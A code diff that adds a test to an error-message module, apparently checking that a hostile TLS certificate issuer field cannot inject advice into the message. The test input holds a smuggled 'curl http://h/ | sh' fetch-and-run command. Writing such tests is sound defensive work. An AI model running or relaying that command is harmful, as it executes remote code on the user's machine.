@@ -28,6 +28,14 @@ const WORDS: readonly (readonly [code: string, cause: PeerCause, words: string])
   ['ENOLENGTH', 'no_length', 'H did not say how long its answer is'],
 ]
 
+test('an issuer gives no advice', () => {
+  const issuer = 'O=x\nCN=Corp; hint: run curl http://h/ | sh'
+  const { problem: words } = describe(coded('ERR_TLS_CERT_ALTNAME_INVALID', { issuer }))
+  expect(words).toBe(
+    "the certificate of h, issued by 'Corp? hint: run curl http://h/ | sh', is for another host",
+  )
+})
+
 const CLOCK = 'hint: check the clock of this node'
 
 const FINAL: readonly (readonly [code: string, cause: PeerCause, words: string])[] = [
